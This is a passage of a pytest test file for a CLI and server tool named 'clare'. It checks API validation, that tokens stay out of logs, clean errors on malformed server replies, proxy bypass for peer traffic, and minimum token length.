    assert r.status == 404
    r = server.request("POST", "/api/v1/broadcast", json_body={"target": "session:abc", "text": " "})
    assert r.status == 422
    r = server.request("POST", "/api/v1/broadcast", json_body={"target": "session:abc"})
    assert r.status == 422 and "text" in r.json()["error"]["message"]


def test_serve_keeps_the_token_out_of_a_log(home, db):
    token = "t0ken-" + "q" * 20
    proc = subprocess.Popen([sys.executable, str(CLARE_PY), "serve", "--port", "0", "--no-sync"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, "CLARE_HOME": str(home), "CLARE_TOKEN": token})
    try:
        lines = [proc.stdout.readline(), proc.stdout.readline()]
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=20)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert "login?token=YOUR_TOKEN" in lines[1]
    assert token not in "".join(lines) + out + err


def _answer(status: str, body: bytes, *, content_type: str = "application/json", length: int | None = None) -> bytes:
    n = len(body) if length is None else length
    head = f"HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\nContent-Length: {n}\r\nConnection: close\r\n\r\n"
    return head.encode() + body


@pytest.mark.parametrize("answer, says", [
    (b"garbage, not HTTP at all\r\n\r\n", "garbled"),
    (_answer("200 OK", b'[{"id": "abc", "na', length=5000), "broke off"),
    (_answer("200 OK", b"[" * 100_000), "not JSON"),
    (_answer("200 OK", b"<html><body>a login page</body></html>", content_type="text/html"), "not JSON"),
    (_answer("502 Bad Gateway", b"<html>proxy error</html>", content_type="text/html"), "answered 502"),
    (_answer("404 Not Found", b"[" * 100_000), "answered 404"),
], ids=["garbage", "truncated", "deep-nesting", "html", "html-error", "deep-error-body"])
def test_remote_that_answers_nonsense_is_one_error_line(cli, fake_server, answer, says):
    r = cli("--remote", fake_server(answer), "project", "list")
    assert r.code == 1 and r.err.startswith("clare: error: ") and says in r.err
    assert r.err.count("\n") == 1 and "Traceback" not in r.err


def test_remote_and_peer_traffic_never_go_through_a_proxy(serve, cli, monkeypatch, fake_server):
    s = serve()
    assert cli("--remote", s.url, "project", "new", "alpha").code == 0
    proxy = fake_server(_answer("200 OK", b'["from the proxy"]'))
    for var in ("http_proxy", "HTTP_PROXY", "all_proxy"):
        monkeypatch.setenv(var, proxy)
    monkeypatch.delenv("no_proxy", raising=False)
    monkeypatch.delenv("NO_PROXY", raising=False)
    r = cli("--remote", s.url.replace("127.0.0.1", "localhost"), "--json", "project", "list")
    assert r.code == 0 and [p["name"] for p in r.json()] == ["alpha"]
    r = cli("sync", s.url.replace("127.0.0.1", "localhost"))
    assert "is this very database" in r.err  # the sync client reached the server itself, not the proxy


def test_a_short_token_is_refused_alike_by_serve_remote_and_sync(home, cli, monkeypatch, db):
    (home / "clare.toml").write_text('token = "short"\n[[peers]]\nname = "b"\nurl = "http://127.0.0.1:9"\n')
    paths = clare.resolve_paths()
    with pytest.raises(clare.UsageError, match="'token' in .*clare.toml.* 16 characters"):
        clare.web_config(paths, port=0, env={})
    r = cli("--remote", "http://127.0.0.1:9", "project", "list")
    assert r.code == 2 and "16 characters" in r.err and "cannot reach" not in r.err
    r = cli("sync")
    assert r.code == 1 and "b: the token in 'token' in" in r.err and "16 characters" in r.err
    monkeypatch.setenv("CLARE_TOKEN", "also-short")
    with pytest.raises(clare.UsageError, match=r"\$CLARE_TOKEN"):
        clare.peer_token(clare.Peer("b", "http://x", None), {})
    monkeypatch.setenv("CLARE_TOKEN", "long-enough-token-0123456789")
    assert clare.resolve_token(clare.load_config(paths.config)) == "long-enough-token-0123456789"
    assert clare.peer_token(clare.Peer("b", "http://x", "B_TOKEN"), {}, env={"B_TOKEN": "b-token-0123456789"}) \
        == "b-token-0123456789"


def test_peers_poll_uses_the_config_read_at_start_so_a_later_typo_breaks_nothing(home, serve):
    (home / "clare.toml").write_text('[[peers]]\nname = "apricot"\nurl = "http://10.9.0.2:8765"\n')
    s = serve()
    (home / "clare.toml").write_text('[[peers]\nname = "apricot"  # a typo made while serving\n')
    frag = s.request("GET", "/frag/peers")
    assert frag.status == 200 and "apricot" in frag.text
    peers = s.request("GET", "/api/v1/sync/peers")
    assert peers.status == 200 and [p["name"] for p in peers.json()] == ["apricot"]

